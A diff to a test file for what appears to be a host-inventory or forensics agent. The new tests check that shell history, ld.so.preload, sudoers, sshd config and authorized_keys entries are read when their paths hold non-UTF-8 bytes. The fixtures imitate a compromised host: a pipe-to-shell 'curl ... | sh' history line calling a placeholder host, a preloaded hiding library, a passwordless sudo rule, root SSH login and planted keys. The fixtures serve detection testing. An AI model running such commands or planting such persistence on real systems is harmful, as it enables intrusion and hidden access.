@@ -4,6 +4,7 @@
  * The fixture root holds real files named with the bytes `b 0xff c`.
  */
 import assert from 'node:assert/strict';
+import { createHash } from 'node:crypto';
 import { mkdirSync, mkdtempSync, rmSync, symlinkSync, writeFileSync } from 'node:fs';
 import { tmpdir } from 'node:os';
 import path from 'node:path';
@@ -15,13 +16,14 @@ import type { Row, TableSpec } from '../../src/agent/inventory/table.js';
 import { sudoersTable } from '../../src/agent/inventory/tables/accounts.js';
 import { containers } from '../../src/agent/inventory/tables/containers.js';
 import { crontab } from '../../src/agent/inventory/tables/cron.js';
-import { diskPath, shownText } from '../../src/agent/inventory/tables/host-names.js';
+import { diskPath, fileText, shownText } from '../../src/agent/inventory/tables/host-names.js';
+import { shellHistory } from '../../src/agent/inventory/tables/history.js';
 import { jarPackages } from '../../src/agent/inventory/tables/packages-jar.js';
 import { npmPackages } from '../../src/agent/inventory/tables/packages-npm.js';
 import { pythonPackages } from '../../src/agent/inventory/tables/packages-python.js';
 import { interfacesTable } from '../../src/agent/inventory/tables/net.js';
 import { ldSoPreload } from '../../src/agent/inventory/tables/preload.js';
-import { sshConfigs } from '../../src/agent/inventory/tables/ssh.js';
+import { authorizedKeys, sshConfigs } from '../../src/agent/inventory/tables/ssh.js';
 import { startupItems } from '../../src/agent/inventory/tables/startup.js';
 import { systemdUnits } from '../../src/agent/inventory/tables/systemd.js';
 import { suidBinariesTable } from '../../src/agent/inventory/tables/system.js';
@@ -200,6 +202,109 @@ describe('names that are not UTF-8: each table keeps the file', () => {
     try {
       const result = await engine.query("SELECT path FROM startup_items WHERE path LIKE '/etc/profile.d/%' UNION ALL SELECT path FROM suid_binaries");
       assert.deepEqual(result.rows, [[`/etc/profile.d/${SHOWN}.sh`], [`/tmp/x/${SHOWN}`]]);
+    } finally {
+      engine.close();
+    }
+  });
+});
+
+/**
+ * Paths written in files: a home in /etc/passwd, a library in /etc/ld.so.preload, a sudoers
+ * @include, an sshd_config Include and AuthorizedKeysFile. The files they name exist, under
+ * names holding the byte 0xff; read as UTF-8 text, each path named another file, absent.
+ */
+describe('names that are not UTF-8, written in files: the files they name are read', () => {
+  let named: string;
+  const KEY = 'ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIMmerXkeBtZ6UjC+e9FggbS4OHmnYL4P26WFryz2ZWaP';
+
+  /** Writes a file at a host path of `named`, with BAD for each `{bad}` in its path and its content. */
+  function write(hostPath: string, data: string): void {
+    const bytes = (text: string) => Buffer.concat(text.split('{bad}').flatMap((p, i) => (i === 0 ? [Buffer.from(p)] : [BAD, Buffer.from(p)])));
+    const file = bytes(`${named}/${hostPath}`);
+    mkdirSync(file.subarray(0, file.lastIndexOf(0x2f)), { recursive: true });
+    writeFileSync(file, bytes(data));
+  }
+
+  before(() => {
+    named = mkdtempSync(path.join(tmpdir(), 'hades-byte-paths-'));
+    write('etc/passwd', 'root:x:0:0:root:/root:/bin/bash\nmallory:x:1001:1001::/home/{bad}:/bin/bash\n');
+    write('home/{bad}/.bash_history', 'curl -s http://x.example/a | sh\n');
+    write('home/{bad}/.ssh/authorized_keys', `${KEY} home\n`);
+    write('etc/ld.so.preload', '/usr/lib/{bad}/libhide.so\n');
+    write('usr/lib/{bad}/libhide.so', 'not really a library');
+    write('etc/sudoers', '@include /etc/sudo-{bad}\n');
+    write('etc/sudo-{bad}', 'mallory ALL=(ALL) NOPASSWD: ALL\n');
+    write('etc/ssh/sshd_config', 'Include /etc/ssh/{bad}.conf\nAuthorizedKeysFile .ssh/authorized_keys /etc/ssh/keys-{bad}/%u\n');
+    write('etc/ssh/{bad}.conf', 'PermitRootLogin yes\n');
+    write('etc/ssh/keys-{bad}/mallory', `${KEY} central\n`);
+  });
+
+  after(() => rmSync(named, { recursive: true, force: true }));
+
+  async function collect(spec: TableSpec): Promise<{ rows: Row[]; warnings: QueryContext['warnings'] }> {
+    const context = new QueryContext({ root: named });
+    return { rows: await spec.generate(context.forTable(spec.name)), warnings: context.warnings };
+  }
+
+  it('decodes a file as names are, a whole UTF-8 file as it is (a byte order mark included)', () => {
+    assert.equal(fileText(Buffer.concat([Buffer.from('/home/'), BAD, Buffer.from('\n')])), `/home/${KEPT}\n`);
+    assert.equal(fileText(Buffer.from('\ufeffcaf\u00e9\n')), '\ufeffcaf\u00e9\n');
+    // A byte order mark within text that is not UTF-8 stays too: the bytes encode back as they were.
+    const mixed = Buffer.concat([BAD, Buffer.from('\ufeffx')]);
+    assert.deepEqual(encodeText(fileText(mixed)), mixed);
+  });
+
+  it('shell_history: the history in a home named in /etc/passwd', async () => {
+    const { rows, warnings } = await collect(shellHistory);
+    assert.deepEqual(
+      rows.map((r) => [r['user'], r['path'], r['command']]),
+      [['mallory', `/home/${KEPT}/.bash_history`, 'curl -s http://x.example/a | sh']],
+    );
+    assert.deepEqual(warnings, []);
+  });
+
+  it('ld_so_preload: the library named in /etc/ld.so.preload exists and is hashed', async () => {
+    const { rows, warnings } = await collect(ldSoPreload);
+    assert.deepEqual(
+      rows.map((r) => [r['path'], r['file_exists'], r['sha256'], r['source']]),
+      [[`/usr/lib/${KEPT}/libhide.so`, 1, createHash('sha256').update('not really a library').digest('hex'), '/etc/ld.so.preload']],
+    );
+    assert.deepEqual(warnings, []);
+  });
+
+  it('sudoers: the file an @include names', async () => {
+    const { rows } = await collect(sudoersTable);
+    assert.deepEqual(
+      rows.map((r) => [r['file'], r['type'], r['principal']]),
+      [
+        ['/etc/sudoers', 'include', null],
+        [`/etc/sudo-${KEPT}`, 'rule', 'mallory'],
+      ],
+    );
+  });
+
+  it('ssh_configs and authorized_keys: an Include, the AuthorizedKeysFile it names and the keys in a home named in /etc/passwd', async () => {
+    const settings = (await collect(sshConfigs)).rows;
+    assert.deepEqual(
+      settings.filter((r) => r['key'] === 'PermitRootLogin').map((r) => [r['value'], r['source']]),
+      [['yes', `/etc/ssh/${KEPT}.conf:1`]],
+    );
+    const { rows, warnings } = await collect(authorizedKeys);
+    assert.deepEqual(
+      rows.map((r) => [r['user'], r['path'], r['comment']]),
+      [
+        ['mallory', `/home/${KEPT}/.ssh/authorized_keys`, 'home'],
+        ['mallory', `/etc/ssh/keys-${KEPT}/mallory`, 'central'],
+      ],
+    );
+    assert.deepEqual(warnings, []);
+  });
+
+  it('a query shows the raw byte as U+FFFD', async () => {
+    const engine = new InventoryEngine([shellHistory, ldSoPreload], { root: named });
+    try {
+      const result = await engine.query('SELECT path FROM shell_history UNION ALL SELECT path FROM ld_so_preload WHERE file_exists = 1');
+      assert.deepEqual(result.rows, [[`/home/${SHOWN}/.bash_history`], [`/usr/lib/${SHOWN}/libhide.so`]]);
     } finally {
       engine.close();
     }
